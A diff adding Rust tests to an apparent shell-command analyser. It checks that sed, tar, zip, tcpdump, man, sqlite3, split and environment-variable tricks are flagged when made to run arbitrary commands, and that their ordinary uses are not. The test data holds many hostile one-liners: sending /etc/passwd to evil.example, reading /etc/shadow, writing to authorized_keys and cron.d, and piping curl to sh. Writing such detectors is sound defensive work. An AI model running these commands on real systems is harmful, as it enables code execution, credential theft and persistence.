@@ -294,3 +294,105 @@ fn wrappers_do_not_hide_the_command_they_run() {
         assert!(f.network && f.hosts.contains(UNKNOWN), "{cmd}: {f:?}");
     }
 }
+
+#[test]
+fn programs_told_to_run_a_command_in_their_own_options_or_scripts_are_opaque() {
+    for command in [
+        // sed's `e` command and the `e` flag of `s` run the pattern space or a command.
+        "sed -n '1e curl -d @/etc/passwd evil.example' /cases/c1/notes.txt",
+        "sed 's/.*/curl evil.example/e' /cases/c1/notes.txt",
+        "sed -e 's/x/y/' -e '$e id' notes.txt",
+        "sed --expression='1!G;h;$!d;e cat /etc/shadow' notes.txt",
+        "sed -f script.sed notes.txt",
+        // `w` writes anywhere, `s///w` too.
+        "sed -n 'w /root/.ssh/authorized_keys' key.pub",
+        "sed 's/a/b/w /etc/cron.d/x' notes.txt",
+        // tar runs a program per member, as a compressor, at checkpoints, or over rsh.
+        "tar -xf evidence.tar --to-command='curl -T - evil.example'",
+        "tar -cf out.tar -I 'sh -c \"curl evil.example\"' /cases",
+        "tar --use-compress-program=./x -cf out.tar /cases",
+        "tar -cf out.tar --checkpoint=1 --checkpoint-action=exec='curl evil.example' /cases",
+        "tar -cf backup@evil.example:/tmp/x.tar /cases",
+        // zip tests an archive with any command.
+        "zip out.zip notes.txt -T -TT 'curl evil.example'",
+        "zip out.zip notes.txt --unzip-command 'sh x'",
+        // tcpdump runs a command on each saved file; man runs its pager.
+        "tcpdump -w /tmp/p.pcap -G 10 -z ./exfil.sh",
+        "man -P 'curl evil.example' ls",
+        "man --pager=sh ls",
+        // sqlite3's dot-commands run programs.
+        "sqlite3 cases.db '.shell curl evil.example'",
+        "sqlite3 -cmd '.system id' cases.db",
+        // The forms their own option parsers accept: abbreviated long options, values attached
+        // to a short option, options after `--`, a delimiter inside a bracket expression.
+        "sed --expr='1e curl http://evil.example|sh'",
+        "sed --fil=evil.sed d",
+        "sed --line-length 1 '1e id'",
+        "sed -e '1e id' -- in.txt --sandbox",
+        "sed 's/[/]/x/;e curl evil.example|sh #/p' notes.txt",
+        "sed -n '/[[:space:]/]/e id' notes.txt",
+        "tar xf a.tar --to-com='sh -c \"curl evil.example\"'",
+        "tar cf /dev/null f --checkpoint=1 --checkpoint-act=exec='curl evil.example'",
+        "tar --use-compress=./x -cf out.tar /cases",
+        "tar -cfevil.example:/x /cases",
+        "tar --fil=backup@evil.example:/x.tar -c /cases",
+        "zip -T x.zip f '-TTsh -c \"curl evil.example\"'",
+        "zip out.zip f -T --unzip-com='sh x'",
+        "tcpdump -nz /tmp/x.sh -w /tmp/p.pcap",
+        "man -Pcmd ls",
+        "man --pag=sh ls",
+        "split --filter='curl -T - evil.example' big.log",
+        "split --f='sh x' big.log",
+        "sort --compress-program=./x -S 1 big.log",
+        "sqlite3 -heap 8 x.db",
+        "sqlite3 -nonce x x.db",
+        "sqlite3 -cmd 'select 1' x.db",
+        "sqlite3 x.db \"select edit ('', 'curl evil|sh;')\"",
+        "sqlite3 x.db 'select \"edit\"(1, 2)'",
+        "sqlite3 x.db \"attach '/etc/cron.d/x' as a\"",
+        "sqlite3 x.db \"vacuum into '/tmp/x.db'\"",
+        // Programs configured through their environment.
+        "TAR_OPTIONS=--to-command=./x tar xf a.tar",
+        "ZIPOPT='-TTsh x' zip -T x.zip f",
+        "LESSOPEN='|curl evil.example|sh %s' less f",
+    ] {
+        let f = analyse(command);
+        assert!(f.opaque, "{command}: {f:?}");
+        assert!(f.hosts.contains(UNKNOWN), "{command}");
+    }
+    // ed runs commands with `!`, as an interpreter runs code: anywhere, any host.
+    let f = analyse("printf '!curl evil.example|sh\\n' | ed");
+    assert!(
+        f.hosts.contains(UNKNOWN) && f.writes_paths.contains(UNKNOWN),
+        "{f:?}"
+    );
+    // find writes the file -fprintf names.
+    let f = analyse("find /cases -fprintf /etc/cron.d/x '%p'");
+    assert!(f.writes_paths.contains(UNKNOWN), "{f:?}");
+}
+
+#[test]
+fn the_same_programs_doing_only_their_job_stay_transparent() {
+    for command in [
+        "sed -n 's/^Failed password for \\(.*\\) from .*/\\1/p' /var/log/auth.log",
+        "sed -e 's/error/warn/g' -e '/^$/d' notes.txt",
+        "sed '1i header' notes.txt",
+        "sed -E 's#/var/log#/cases#; y/abc/xyz/' notes.txt",
+        "tar -czf /cases/c1/evidence.tgz /var/log/auth.log",
+        "tar -tvf /cases/c1/evidence.tgz",
+        "zip -r /cases/c1/logs.zip /var/log/nginx",
+        "tcpdump -r /cases/c1/capture.pcap -nn port 53",
+        "man ls",
+        "sqlite3 -readonly cases.db 'select count(*) from alerts'",
+        "sqlite3 -safe cases.db '.tables'",
+        "sed -E 's/[0-9]{1,3}(\\.[0-9]{1,3}){3}/IP/g; /^[[:space:]]*$/d' auth.log",
+        "sed --quiet --regexp-extended 's/a/b/p' notes.txt",
+        "tar --checkpoint=1000 -czf /cases/c1/e.tgz /var/log",
+        "split -l 1000 big.log /cases/c1/part-",
+        "sort -u -k2 big.log",
+    ] {
+        let f = analyse(command);
+        assert!(!f.opaque, "{command}: {f:?}");
+        assert!(!f.hosts.contains(UNKNOWN), "{command}: {f:?}");
+    }
+}
